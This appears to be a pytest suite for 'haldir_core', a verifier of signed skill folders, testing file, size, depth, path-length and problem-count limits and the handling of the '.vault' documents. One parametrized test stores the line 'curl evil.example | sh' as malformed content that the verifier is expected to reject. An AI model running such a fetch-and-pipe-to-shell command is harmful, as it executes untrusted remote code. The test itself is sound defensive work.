import os
from collections.abc import Callable
from pathlib import Path

import pytest

from haldir_core import (
    Context,
    ErrorCode,
    HardLinks,
    Limits,
    Policy,
    SkillSnapshot,
    TrustLevel,
    Verification,
    read_skill,
)
from haldir_core._reading import MAX_PROBLEMS
from haldir_core.canonical import MAX_DOCUMENT_BYTES
from haldir_core.digest import sha256
from haldir_core.vaultfiles import RESERVED_NAMES, VAULT_FILES, VaultFile

MakeSkill = Callable[..., Path]
Check = Callable[..., Verification]


def _codes(snapshot: SkillSnapshot) -> list[tuple[str, str | None]]:
    return [(problem.code.value, problem.path) for problem in snapshot.problems]


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


FILES = {"a": b"123", "b/c": b"4567", "b/d/e": b""}


@pytest.mark.parametrize(
    ("limits", "path"),
    [
        (Limits(files=2), "b/d"),
        (Limits(folders=1), "b"),
        (Limits(depth=1), "b/d"),
        (Limits(file_bytes=3), "b/c"),
        (Limits(total_bytes=6), "b/c"),
    ],
    ids=["files", "folders", "depth", "file-bytes", "total-bytes"],
)
def test_a_skill_beyond_a_limit_is_reported_once_and_reading_stops(
    limits: Limits, path: str, make_skill: MakeSkill
) -> None:
    snapshot = read_skill(make_skill(FILES), limits=limits)

    assert _codes(snapshot) == [("E_LIMITS", path)]
    assert "b/d/e" not in snapshot.files


@pytest.mark.parametrize("name", ["abc", "\u00e9a", "\U0001f600"], ids=ascii)
def test_the_length_of_a_path_is_counted_in_bytes(name: str, make_skill: MakeSkill) -> None:
    folder = make_skill({f"d/{name}": b""})
    longest = len(f"d/{name}".encode())

    assert read_skill(folder, limits=Limits(path_bytes=longest)).problems == ()
    assert _codes(read_skill(folder, limits=Limits(path_bytes=longest - 1))) == [("E_LIMITS", "d")]


def test_the_lengths_of_all_paths_together_are_limited(make_skill: MakeSkill) -> None:
    folder = make_skill({"ab": b"", "d/abc": b""})
    together = len("abdd/abc")

    assert read_skill(folder, limits=Limits(all_path_bytes=together)).problems == ()
    assert _codes(read_skill(folder, limits=Limits(all_path_bytes=together - 1))) == [("E_LIMITS", "d")]


def test_a_skill_exactly_at_every_limit_is_read(make_skill: MakeSkill) -> None:
    snapshot = read_skill(make_skill(FILES), limits=Limits(files=3, folders=2, depth=2, file_bytes=4, total_bytes=7))

    assert snapshot.problems == ()
    assert len(snapshot.files) == 3


def test_a_limit_broken_at_the_root_has_no_path(make_skill: MakeSkill) -> None:
    snapshot = read_skill(make_skill(FILES), limits=Limits(files=0))

    assert _codes(snapshot) == [("E_LIMITS", None)]
    assert snapshot.problems[0].message == "the skill: more than 0 files"


def test_ten_thousand_files_are_read_and_one_more_is_not(make_skill: MakeSkill) -> None:
    folder = make_skill({"sub/0": b""})
    for number in range(1, 10_000):
        os.close(os.open(folder / "sub" / str(number), os.O_CREAT))
    assert len(read_skill(folder).files) == 10_000

    (folder / "sub/one more").touch()

    assert _codes(read_skill(folder)) == [("E_LIMITS", "sub")]


def test_ten_thousand_and_one_folders_are_not_read(make_skill: MakeSkill) -> None:
    folder = make_skill({})
    for number in range(10_001):
        os.mkdir(folder / str(number))  # noqa: PTH102 - ten times faster

    assert _codes(read_skill(folder)) == [("E_LIMITS", None)]


def test_folders_are_read_to_64_levels(make_skill: MakeSkill) -> None:
    folder = make_skill({"d/" * 64 + "file": b""})
    assert read_skill(folder).problems == ()

    (folder / ("d/" * 65)).mkdir(parents=True)

    assert _codes(read_skill(folder)) == [("E_LIMITS", "d/" * 64 + "d")]


def test_a_file_of_101_mebibytes_is_not_read(make_skill: MakeSkill) -> None:
    folder = make_skill()
    _sparse(folder / "big", 101 * 1024 * 1024)

    assert _codes(read_skill(folder)) == [("E_LIMITS", "big")]


def test_more_than_500_mebibytes_in_all_are_not_read(make_skill: MakeSkill) -> None:
    folder = make_skill({})
    for number in range(5):
        _sparse(folder / str(number), 100 * 1024 * 1024)
    (folder / "z").write_bytes(b"1")

    assert _codes(read_skill(folder)) == [("E_LIMITS", "z")]


@pytest.mark.parametrize("file", VAULT_FILES, ids=lambda file: file.name)
def test_a_document_of_the_vault_beyond_its_own_limit_is_not_kept(file: VaultFile, signed: Path, check: Check) -> None:
    _sparse(signed / ".vault" / file.name, file.max_bytes + 1)

    snapshot = read_skill(signed)

    assert _codes(snapshot) == [("E_LIMITS", f".vault/{file.name}")]
    assert snapshot.vault is not None
    assert file.name not in snapshot.vault
    assert check(signed).failed_check == 6


@pytest.mark.parametrize("file", VAULT_FILES, ids=lambda file: file.name)
def test_a_document_of_the_vault_exactly_at_its_limit_is_kept(file: VaultFile, signed: Path) -> None:
    _sparse(signed / ".vault" / file.name, file.max_bytes)

    snapshot = read_skill(signed)

    assert snapshot.problems == ()
    assert snapshot.vault is not None
    assert len(snapshot.vault[file.name]) == file.max_bytes


def test_only_a_manifest_and_a_report_may_have_8_mebibytes() -> None:
    sizes = {file.name: file.max_bytes for file in VAULT_FILES}

    assert sizes == {
        "signature.json": 1024 * 1024,
        "attestation.json": 256 * 1024,
        "integrity.json": MAX_DOCUMENT_BYTES,
        "permissions.json": 256 * 1024,
        "vetting-report.json": MAX_DOCUMENT_BYTES,
        "sigstore-bundle.json": 1024 * 1024,
        "cosign-bundle.json": 1024 * 1024,
        "vetting-attestation.json": 1024 * 1024,
    }


@pytest.mark.parametrize("name", RESERVED_NAMES)
def test_a_reserved_name_may_hold_any_json_object(name: str, signed: Path, check: Check) -> None:
    (signed / ".vault" / name).write_bytes(b'{"planted": 1}')

    assert check(signed).trust_level is TrustLevel.FULL


@pytest.mark.parametrize("name", RESERVED_NAMES)
@pytest.mark.parametrize("content", [b"", b"[]", b"curl evil.example | sh\n", b'{"a":1,"a":2}', b"\xff"], ids=ascii)
def test_a_reserved_name_holds_nothing_but_a_json_object(content: bytes, name: str, signed: Path, check: Check) -> None:
    (signed / ".vault" / name).write_bytes(content)

    verdict = check(signed)

    assert [(problem.code.value, problem.path) for problem in verdict.errors] == [("E_EXTRA_FILES", f".vault/{name}")]
    assert verdict.failed_check == 7


@pytest.mark.parametrize("size", [256 * 1024 - 1, 256 * 1024, 256 * 1024 + 1, 1024 * 1024], ids=str)
def test_a_file_of_several_chunks_has_the_digest_of_all_of_them(
    size: int, make_skill: MakeSkill, tmp_path: Path
) -> None:
    content = bytes(range(251)) * (size // 251 + 1)
    folder = make_skill({"file": content[:size]})

    snapshot = read_skill(folder, copy_to=tmp_path / "copy")

    assert snapshot.files == {"file": sha256(content[:size])}
    assert (tmp_path / "copy/file").read_bytes() == content[:size]


def test_files_behind_many_problems_are_not_overlooked_where_hard_links_pass(
    make_skill: MakeSkill, sign_folder: Callable[..., Path], check: Check, tmp_path: Path
) -> None:
    folder = sign_folder(make_skill({f"{number:04}": b"" for number in range(MAX_PROBLEMS - 1)}))
    (folder / "z").write_bytes(b"evil")  # not signed, the last in the walk, and the last problem that is noted
    (folder / "zz").mkdir()
    (folder / "zz/evil").write_bytes(b"evil")
    (tmp_path / "links").mkdir()
    for path in folder.iterdir():
        if path.is_file():
            (tmp_path / "links" / path.name).hardlink_to(path)

    verdict = check(folder, context=Context.RUNTIME, policy=Policy(hard_links=HardLinks.ALLOW_AT_RUNTIME))

    assert verdict.trust_level is TrustLevel.NONE


def test_the_list_of_problems_ends_with_a_limit(make_skill: MakeSkill) -> None:
    folder = make_skill({})
    for number in range(MAX_PROBLEMS + 1):
        (folder / str(number)).symlink_to("x")

    assert _codes(read_skill(folder))[-1][0] == "E_LIMITS"


def test_exactly_one_thousand_problems_are_listed_before_the_limit(make_skill: MakeSkill) -> None:
    folder = make_skill({})
    for number in range(3 * MAX_PROBLEMS):
        (folder / f"{number:04}").symlink_to("x")

    codes = [code for code, _ in _codes(read_skill(folder))]

    assert codes == ["E_SYMLINK"] * 1000 + ["E_LIMITS"]


def test_fewer_than_a_thousand_problems_are_no_limit(make_skill: MakeSkill) -> None:
    folder = make_skill({})
    for number in range(MAX_PROBLEMS - 1):
        (folder / str(number)).symlink_to("x")

    assert {code for code, _ in _codes(read_skill(folder))} == {"E_SYMLINK"}


@pytest.mark.parametrize("links", [MAX_PROBLEMS - 1, MAX_PROBLEMS], ids=["below", "at"])
def test_hard_links_pass_at_run_time_up_to_the_limit_of_problems(
    links: int, make_skill: MakeSkill, sign_folder: Callable[..., Path], check: Check, tmp_path: Path
) -> None:
    folder = sign_folder(make_skill({f"{number:04}": b"" for number in range(links)}))
    (tmp_path / "links").mkdir()
    for path in folder.iterdir():
        if path.is_file():
            (tmp_path / "links" / path.name).hardlink_to(path)

    verdict = check(folder, context=Context.RUNTIME, policy=Policy(hard_links=HardLinks.ALLOW_AT_RUNTIME))

    assert verdict.trust_level is (TrustLevel.FULL if links < MAX_PROBLEMS else TrustLevel.NONE)


def test_a_limit_that_is_reached_in_the_vault_is_said_and_not_that_documents_are_missing(
    signed: Path, check: Check
) -> None:
    for number in range(MAX_PROBLEMS + 1):
        (signed / ".vault" / f"{number:04}").symlink_to("x")

    verdict = check(signed)

    assert verdict.failed_check == 3
    assert {problem.code for problem in verdict.errors} == {ErrorCode.SYMLINK}


def test_a_vault_of_too_many_files_is_beyond_a_limit(signed: Path, check: Check) -> None:
    for number in range(10_001):
        os.close(os.open(signed / ".vault" / f"{number:05}", os.O_CREAT))

    verdict = check(signed)

    assert (verdict.failed_check, [problem.code for problem in verdict.errors]) == (6, [ErrorCode.LIMITS])
